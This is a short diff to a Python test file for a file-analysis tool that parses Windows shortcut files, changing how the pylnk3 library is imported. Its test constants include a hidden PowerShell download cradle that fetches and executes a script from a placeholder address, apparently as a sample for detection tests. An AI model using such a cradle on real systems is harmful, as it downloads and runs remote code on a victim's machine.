@@ -13,12 +13,11 @@ import struct
 import time
 import uuid
 
+import pylnk3
 import pytest
 from conftest import rules_of
 
 from filewall.analyze.lnk import parse_lnk
-
-pylnk3 = pytest.importorskip("pylnk3")  # pinned in pyproject's [test] extra
 
 POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
 CRADLE = "-w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/TEST-ONLY')\""
